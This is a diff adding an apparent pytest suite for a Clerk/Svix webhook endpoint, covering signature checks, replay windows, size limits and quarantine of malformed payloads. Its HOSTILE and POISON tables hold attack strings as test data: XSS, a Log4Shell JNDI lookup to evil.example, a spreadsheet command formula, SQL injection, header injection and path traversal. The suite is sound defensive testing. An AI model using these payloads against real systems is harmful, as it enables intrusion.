@@ -1,0 +1,438 @@
+"""What is no delivery, or one nobody can use: never a 5xx, never a 3xx, never a user."""
+
+import base64
+import json
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, replace
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from tests.adapters.clerk.deliveries import OTHER_SECRET
+from tests.adapters.clerk.payloads import (
+    ADA,
+    DATA,
+    MISSING,
+    envelope,
+    user_fields,
+    webhook_bytes,
+    with_data,
+)
+from tests.running import REFUSED, WEBHOOKS, Service, problem, signature, svix_headers
+from tests.service.tables import Sql, count_rows, journal, stored_user
+
+BODY = webhook_bytes("user.created")
+DECOY = "v1,Ceo5qEr07ixe2NLpvHk3FH9bwy/WavXrAFQ/9tdO6mc="
+MEGABYTE = 1024 * 1024
+VECTORS = json.loads((DATA / "signatures.json").read_text())
+
+Headers = list[tuple[str, str]]
+
+
+@dataclass(frozen=True)
+class Signed:
+    """A genuine delivery, to be spoilt."""
+
+    secret: str
+    svix_id: str = "msg_1"
+    timestamp: str = ""
+    body: bytes = BODY
+
+    @property
+    def good(self) -> str:
+        return signature(self.secret, self.svix_id, self.timestamp, self.body)
+
+    @property
+    def headers(self) -> Headers:
+        return [
+            ("content-type", "application/json"),
+            ("svix-id", self.svix_id),
+            ("svix-timestamp", self.timestamp),
+            ("svix-signature", self.good),
+        ]
+
+    def with_header(self, name: str, *values: str) -> Headers:
+        """These values under the name, however many, in place of the one that is there."""
+        others = [pair for pair in self.headers if pair[0] != name]
+        return [*others, *((name, value) for value in values)]
+
+
+def signed(service: Service, **parts: Any) -> Signed:
+    return Signed(service.secret, **{"timestamp": str(int(time.time())), **parts})
+
+
+async def post(service: Service, headers: Headers, body: bytes) -> Any:
+    raw = [(name.encode(), value.encode("latin-1")) for name, value in headers]
+    return await service.http.post(WEBHOOKS, content=body, headers=raw)
+
+
+def later(seconds: int) -> str:
+    return str(int(time.time()) + seconds)
+
+
+MALFORMED: dict[str, Callable[[Signed], Headers]] = {
+    "no headers": lambda _: [],
+    "no id": lambda s: s.with_header("svix-id"),
+    "no timestamp": lambda s: s.with_header("svix-timestamp"),
+    "no signature": lambda s: s.with_header("svix-signature"),
+    "empty id": lambda s: replace(s, svix_id="").headers,
+    "empty timestamp": lambda s: replace(s, timestamp="").headers,
+    "empty signature": lambda s: s.with_header("svix-signature", ""),
+    "two ids, the genuine one last": lambda s: s.with_header("svix-id", "msg_fake", "msg_1"),
+    "two ids, the genuine one first": lambda s: s.with_header("svix-id", "msg_1", "msg_fake"),
+    "two timestamps": lambda s: s.with_header("svix-timestamp", s.timestamp, s.timestamp),
+    "two signature headers": lambda s: s.with_header("svix-signature", s.good, s.good),
+    "only the other family": lambda s: [(n.replace("svix-", "webhook-"), v) for n, v in s.headers],
+    "id with a dot": lambda s: replace(s, svix_id="msg.1").headers,
+    "id too long": lambda s: replace(s, svix_id="a" * 129).headers,
+    "id with a space": lambda s: replace(s, svix_id="msg 1").headers,
+    "id with an escape": lambda s: replace(s, svix_id="msg\x1b[31m").headers,
+    "id not ASCII": lambda s: replace(s, svix_id="msg_é").headers,
+    "timestamp in words": lambda s: replace(s, timestamp="hello").headers,
+    "timestamp nan": lambda s: replace(s, timestamp="nan").headers,
+    "timestamp inf": lambda s: replace(s, timestamp="inf").headers,
+    "timestamp huge": lambda s: replace(s, timestamp="1e400").headers,
+    "timestamp a float": lambda s: s.with_header("svix-timestamp", f"{s.timestamp}.5"),
+    "timestamp with an exponent": lambda s: s.with_header("svix-timestamp", f"{s.timestamp}e0"),
+    "timestamp with a plus": lambda s: s.with_header("svix-timestamp", f"+{s.timestamp}"),
+    "timestamp with underscores": lambda s: s.with_header(
+        "svix-timestamp", f"{s.timestamp[0]}_{s.timestamp[1:]}"
+    ),
+    "timestamp with a zero before it": lambda s: s.with_header("svix-timestamp", f"0{s.timestamp}"),
+    "timestamp negative": lambda s: replace(s, timestamp=f"-{s.timestamp}").headers,
+    "timestamp in milliseconds": lambda s: replace(s, timestamp=f"{s.timestamp}000").headers,
+    "timestamp of a hundred thousand digits": lambda s: replace(s, timestamp="9" * 100_000).headers,
+    "timestamp 301 s old": lambda s: replace(s, timestamp=later(-302)).headers,
+    "timestamp 301 s ahead": lambda s: replace(s, timestamp=later(302)).headers,
+    "signature without its version": lambda s: s.with_header("svix-signature", s.good[3:]),
+    "signature with two commas": lambda s: s.with_header("svix-signature", f"v1,{s.good}"),
+    "signature not base64": lambda s: s.with_header("svix-signature", "v1,abc"),
+    "signature not ASCII": lambda s: s.with_header("svix-signature", "v1,é"),
+    "signature empty behind its version": lambda s: s.with_header("svix-signature", "v1,"),
+    "signatures two spaces apart": lambda s: s.with_header("svix-signature", f"{DECOY}  {DECOY}"),
+    "signature of version 2": lambda s: s.with_header("svix-signature", f"v2,{s.good[3:]}"),
+    "signature asymmetric": lambda s: s.with_header("svix-signature", f"v1a,{s.good[3:]}"),
+    "signature in capitals": lambda s: s.with_header("svix-signature", f"V1,{s.good[3:]}"),
+    "junk before the signature": lambda s: s.with_header("svix-signature", f"junk {s.good}"),
+    "eleven signatures": lambda s: s.with_header("svix-signature", f"{DECOY} " * 10 + s.good),
+    "twenty thousand signatures": lambda s: s.with_header("svix-signature", f"{s.good} " * 20_000),
+    "signed by a stranger": lambda s: replace(s, secret=OTHER_SECRET).headers,
+    "signed for another id": lambda s: s.with_header("svix-id", "msg_2"),
+    "signed for another time": lambda s: s.with_header("svix-timestamp", later(-60)),
+}
+
+
+@pytest.mark.parametrize("cause", MALFORMED)
+async def test_whatever_is_wrong_with_the_headers_the_answer_is_the_same(
+    service: Service, sql: Sql, cause: str
+) -> None:
+    before = await service.metric("webhook_refusals_total", code="signature_invalid")
+    answer = await post(service, MALFORMED[cause](signed(service)), BODY)
+    assert (answer.status_code, answer.json()) == (400, REFUSED)
+    assert answer.headers["content-type"] == "application/problem+json"
+    assert await count_rows(sql) == (0, 0)
+    refusals = await service.metric("webhook_refusals_total", code="signature_invalid")
+    assert refusals == before + 1
+
+
+TOUCHED = {
+    "one byte": BODY.replace(b"Ada", b"Eve", 1),
+    "a line end added": BODY + b"\n",
+    "a byte order mark added": b"\xef\xbb\xbf" + BODY,
+    "written again": json.dumps(json.loads(BODY)).encode(),
+    "emptied": b"",
+    "of another delivery": webhook_bytes("user.updated"),
+}
+
+
+@pytest.mark.parametrize("how", TOUCHED)
+async def test_a_body_that_was_touched_is_refused(service: Service, sql: Sql, how: str) -> None:
+    answer = await post(service, signed(service).headers, TOUCHED[how])
+    assert (answer.status_code, answer.json()) == (400, REFUSED)
+    assert await count_rows(sql) == (0, 0)
+
+
+async def test_a_body_that_is_not_utf8_cannot_be_proven(service: Service, sql: Sql) -> None:
+    body = b'{"type": "user.created", "data": {"id": "user_\xff"}}'
+    answer = await post(service, signed(service, body=body).headers, body)
+    assert (answer.status_code, answer.json()) == (400, REFUSED)
+    assert await count_rows(sql) == (0, 0)
+
+
+async def test_captured_and_sent_again_after_five_minutes_it_is_refused(
+    service: Service, sql: Sql
+) -> None:
+    old = datetime.now(UTC) - timedelta(seconds=302)
+    assert (await service.deliver(BODY, when=old)).json() == REFUSED
+    assert await count_rows(sql) == (0, 0)
+
+
+async def test_the_other_family_of_headers_counts_for_nothing(service: Service, sql: Sql) -> None:
+    decoys = [("webhook-id", "msg_x"), ("webhook-timestamp", "1"), ("webhook-signature", "v1,x")]
+    answer = await post(service, [*decoys, *signed(service).headers, *decoys], BODY)
+    assert answer.status_code == 204
+    assert [entry["svix_id"] for entry in await journal(sql)] == ["msg_1"]
+
+
+async def test_a_good_signature_among_ten_is_found(service: Service, sql: Sql) -> None:
+    genuine = signed(service)
+    headers = genuine.with_header("svix-signature", f"{DECOY} " * 9 + genuine.good)
+    assert (await post(service, headers, BODY)).status_code == 204
+
+
+@pytest.mark.parametrize(
+    "vector", VECTORS["official_vectors"], ids=lambda vector: vector["svix-id"]
+)
+def test_these_tests_sign_as_svix_does(vector: dict[str, str]) -> None:
+    made = signature(
+        vector["secret"], vector["svix-id"], vector["svix-timestamp"], vector["payload"].encode()
+    )
+    assert made == vector["svix-signature"]
+
+
+KINDS = {
+    "compressed": {"content-encoding": "gzip"},
+    "compressed twice": {"content-encoding": "gzip, br"},
+    "a form": {"content-type": "application/x-www-form-urlencoded"},
+    "parts": {"content-type": "multipart/form-data; boundary=x"},
+    "text": {"content-type": "text/plain"},
+    "no kind": {"content-type": ""},
+    "nearly JSON": {"content-type": "application/jsonx"},
+}
+
+
+@pytest.mark.parametrize("kind", KINDS)
+async def test_a_body_that_is_not_plain_json_is_refused(
+    service: Service, sql: Sql, kind: str
+) -> None:
+    headers = svix_headers(service.secret, BODY) | KINDS[kind]
+    answer = await service.http.post(WEBHOOKS, content=BODY, headers=headers)
+    assert answer.status_code == 415
+    assert answer.json() == problem(415, "body_not_json")
+    assert await count_rows(sql) == (0, 0)
+
+
+@pytest.mark.parametrize(
+    "kind", ["application/json", "application/json; charset=utf-8", "Application/JSON"]
+)
+async def test_json_may_be_announced_in_several_ways(service: Service, sql: Sql, kind: str) -> None:
+    headers = svix_headers(service.secret, BODY) | {"content-type": kind}
+    answer = await service.http.post(WEBHOOKS, content=BODY, headers=headers)
+    assert answer.status_code == 204
+
+
+async def test_up_to_a_mebibyte_is_taken(service: Service, sql: Sql) -> None:
+    body = json.dumps(with_data(private_metadata={"k": ""})).encode()
+    body = body.replace(b'"k": ""', b'"k": "' + b"x" * (MEGABYTE - len(body)) + b'"')
+    assert len(body) == MEGABYTE
+    assert (await service.deliver(body)).status_code == 204
+    assert (await service.deliver(body + b" ")).status_code == 413
+
+
+async def test_beyond_that_it_is_refused_before_anything_is_looked_at(
+    service: Service, sql: Sql
+) -> None:
+    answer = await service.http.post(WEBHOOKS, content=b"x" * (MEGABYTE + 1))
+    assert answer.json() == problem(413, "body_too_large")
+    assert await count_rows(sql) == (0, 0)
+
+
+@pytest.mark.parametrize("length", ["-1", "+5", "abc", "1e3", "", "²", "9" * 5_000])
+async def test_a_length_that_is_none_is_refused(service: Service, sql: Sql, length: str) -> None:
+    answer = await post(service, [("content-length", length)], BODY)
+    assert (answer.status_code, answer.json()["code"]) == (400, "body_length_invalid")
+
+
+@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"])
+@pytest.mark.parametrize("path", [WEBHOOKS, f"{WEBHOOKS}/"])
+async def test_another_method_is_told_the_right_one(
+    service: Service, method: str, path: str
+) -> None:
+    answer = await service.http.request(method, path)
+    assert (answer.status_code, answer.headers["allow"]) == (405, "POST")
+
+
+def raw_data(**members: str) -> bytes:
+    """user.created with members of its data in JSON as it stands here."""
+    data = {name: json.dumps(value) for name, value in user_fields().items()} | members
+    inner = ", ".join(f'"{name}": {value}' for name, value in data.items())
+    return f'{{"type": "user.created", "data": {{{inner}}}}}'.encode()
+
+
+def users(**changes: Any) -> bytes:
+    return json.dumps(with_data(**changes)).encode()
+
+
+POISON: dict[str, tuple[bytes, str]] = {
+    "empty": (b"", "not_json"),
+    "no JSON": (b"not json", "not_json"),
+    "half": (BODY[:-200], "not_json"),
+    "a list": (b"[]", "not_an_object"),
+    "a text": (b'"user.created"', "not_an_object"),
+    "null": (b"null", "not_an_object"),
+    "a number": (b"5", "not_an_object"),
+    "NaN": (raw_data(first_name="NaN"), "not_json"),
+    "Infinity": (raw_data(updated_at="Infinity"), "not_json"),
+    "a hundred thousand levels": (b"[" * 100_000 + b"]" * 100_000, "not_json"),
+    "three hundred levels": (raw_data(public_metadata="[" * 300 + "]" * 300), "wrong_type"),
+    "a deep field of the future": (raw_data(future="[" * 300 + "]" * 300), "not_storable"),
+    "five thousand digits": (raw_data(updated_at="9" * 5_000), "not_json"),
+    "digits that overflow": (raw_data(public_metadata='{"n": 1e400}'), "not_json"),
+    "no type": (json.dumps(envelope(type=MISSING)).encode(), "no_type"),
+    "type a number": (json.dumps(envelope(type=5)).encode(), "no_type"),
+    "no data": (json.dumps(envelope(data=MISSING)).encode(), "no_data"),
+    "data a list": (json.dumps(envelope(data=[])).encode(), "not_an_object"),
+    "no id": (users(id=MISSING), "no_user_id"),
+    "id a path": (users(id="../../etc/passwd"), "no_user_id"),
+    "id climbing": (users(id="user_../v1"), "no_user_id"),
+    "id escaped": (users(id="user_%2e%2e"), "no_user_id"),
+    "id of another kind": (users(id="org_1"), "no_user_id"),
+    "id endless": (users(id="user_" + "a" * 10_000), "no_user_id"),
+    "id a number": (users(id=5), "no_user_id"),
+    "NUL in a name": (users(first_name="a\x00b"), "nul_character"),
+    "NUL in metadata": (users(public_metadata={"k": "a\x00b"}), "nul_character"),
+    "NUL in a key": (users(public_metadata={"a\x00b": 1}), "nul_character"),
+    "half a surrogate pair": (users(first_name="\ud800"), "not_json"),
+    "an e-mail no index holds": (
+        users(email_addresses=[{"id": "idn_1", "email_address": "a" * 5_000}]).replace(
+            b"idn_3T1plN50edEjBEQxPRK3ilCcmLC", b"idn_1"
+        ),
+        "too_large",
+    ),
+    "addresses an object": (users(email_addresses={}), "wrong_type"),
+    "a name a number": (users(first_name=5), "wrong_type"),
+    "metadata a list": (users(public_metadata=[]), "wrong_type"),
+    "banned a text": (users(banned="no"), "wrong_type"),
+    "no updated_at": (users(updated_at=MISSING), "no_updated_at"),
+    "updated_at a text": (users(updated_at="1760000000018"), "updated_at_absurd"),
+    "updated_at true": (users(updated_at=True), "updated_at_absurd"),
+    "updated_at a fraction": (users(updated_at=1760000000018.5), "updated_at_absurd"),
+    "updated_at in seconds": (users(updated_at=1760000000), "updated_at_absurd"),
+    "updated_at negative": (users(updated_at=-1760000000018), "updated_at_absurd"),
+    "updated_at in microseconds": (users(updated_at=1760000000018000), "updated_at_absurd"),
+    "updated_at without end": (users(updated_at=10**30), "updated_at_absurd"),
+    "updated_at in 2099": (users(updated_at=4_070_908_800_000), "updated_at_absurd"),
+    "a deletion of nobody": (
+        json.dumps(with_data("user.deleted", id=MISSING)).encode(),
+        "no_user_id",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", POISON)
+async def test_poison_is_acknowledged_and_kept_with_its_bytes(
+    service: Service, sql: Sql, kind: str
+) -> None:
+    body, reason = POISON[kind]
+    answer = await service.deliver(body, svix_id="msg_1")
+    assert (answer.status_code, answer.content) == (202, b"")
+    (entry,) = await journal(sql)
+    assert (entry["svix_id"], entry["outcome"]) == ("msg_1", "quarantined")
+    assert entry["error"].startswith(reason)
+    assert bytes(entry["body"]) == body
+    assert await count_rows(sql) == (0, 1)
+
+
+async def test_poison_is_counted(service: Service, sql: Sql) -> None:
+    labels = {"type": "user.created", "outcome": "quarantined"}
+    before = await service.metric("webhook_deliveries_total", **labels)
+    await service.deliver(users(first_name="a\x00b"))
+    assert await service.metric("webhook_deliveries_total", **labels) == before + 1
+    assert await service.metric("quarantine_size") == 1
+
+
+async def test_poison_that_comes_again_only_counts_up(service: Service, sql: Sql) -> None:
+    for _ in range(2):
+        assert (await service.deliver(b"poison", svix_id="msg_1")).status_code == 202
+    (entry,) = await journal(sql)
+    assert entry["deliveries"] == 2
+
+
+async def test_poison_of_a_user_goes_when_the_user_does(service: Service, sql: Sql) -> None:
+    await service.deliver(users(first_name="a\x00b"))
+    await service.deliver(webhook_bytes("user.deleted"))
+    await service.deliver(users(first_name="c\x00d"))
+    assert [(entry["outcome"], entry["body"]) for entry in await journal(sql)] == [
+        ("quarantined", None),
+        ("deleted", None),
+        ("quarantined", None),
+    ]
+
+
+MANY = [{"id": f"idn_{number}", "email_address": f"{number}@x.io"} for number in range(10_000)]
+ODD: dict[str, tuple[bytes, dict[str, Any]]] = {
+    "addresses null": (users(email_addresses=None), {"email": None}),
+    "addresses missing": (users(email_addresses=MISSING), {"email": None}),
+    "addresses none": (users(email_addresses=[]), {"email": None}),
+    "no primary address": (users(primary_email_address_id=None), {"email": None}),
+    "a primary address that is not there": (
+        users(primary_email_address_id="idn_gone"),
+        {"email": None},
+    ),
+    "ten thousand addresses": (
+        users(email_addresses=MANY, primary_email_address_id="idn_9999"),
+        {"email": "9999@x.io"},
+    ),
+    "a name of a hundred thousand letters": (
+        users(first_name="x" * 100_000),
+        {"first_name": "x" * 100_000},
+    ),
+    "half a megabyte of metadata": (
+        users(public_metadata={"k": "x" * 500_000}),
+        {"public_metadata": {"k": "x" * 500_000}},
+    ),
+    "the last of two names": (
+        BODY.replace(b'"first_name":', b'"first_name": "Eve", "first_name":', 1),
+        {"first_name": "Ada"},
+    ),
+    "the last of two types": (
+        BODY.replace(b"{", b'{"type": "session.created", ', 1),
+        {"first_name": "Ada"},
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", ODD)
+async def test_the_odd_but_possible_is_stored(service: Service, sql: Sql, kind: str) -> None:
+    body, expected = ODD[kind]
+    assert (await service.deliver(body)).status_code == 204
+    user = await stored_user(sql, ADA)
+    assert {name: user[name] for name in expected} == expected
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil.example/a}",
+    "=cmd|' /C calc'!A0",
+    "'; drop table users; --",
+    "\r\nSet-Cookie: a=b",
+    "\x1b[31mred\x07",
+    "\u202egnp.exe",
+    "👩🏽‍🚀",
+]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+async def test_hostile_text_is_stored_as_it_came(service: Service, sql: Sql, name: str) -> None:
+    await service.deliver(with_data(first_name=name, public_metadata={name: name}))
+    user = await stored_user(sql, ADA)
+    assert (user["first_name"], user["public_metadata"]) == (name, {name: name})
+
+
+@pytest.mark.parametrize("event_type", ["a" * 10_000, "user.created\x00", "\r\n\x1b[31m", ""])
+async def test_a_strange_event_type_is_one_we_do_not_follow(
+    service: Service, sql: Sql, event_type: str
+) -> None:
+    assert (await service.deliver(envelope(type=event_type))).status_code == 204
+    assert await count_rows(sql) == (0, 0)
+
+
+@pytest.mark.parametrize("seed", range(5))
+async def test_bytes_of_any_kind_are_refused_unsigned_and_kept_signed(
+    service: Service, sql: Sql, seed: int
+) -> None:
+    body = base64.b85encode(bytes(range(seed, 250 - seed)))
+    assert (await service.http.post(WEBHOOKS, content=body)).json() == REFUSED
+    assert (await service.deliver(body)).status_code == 202
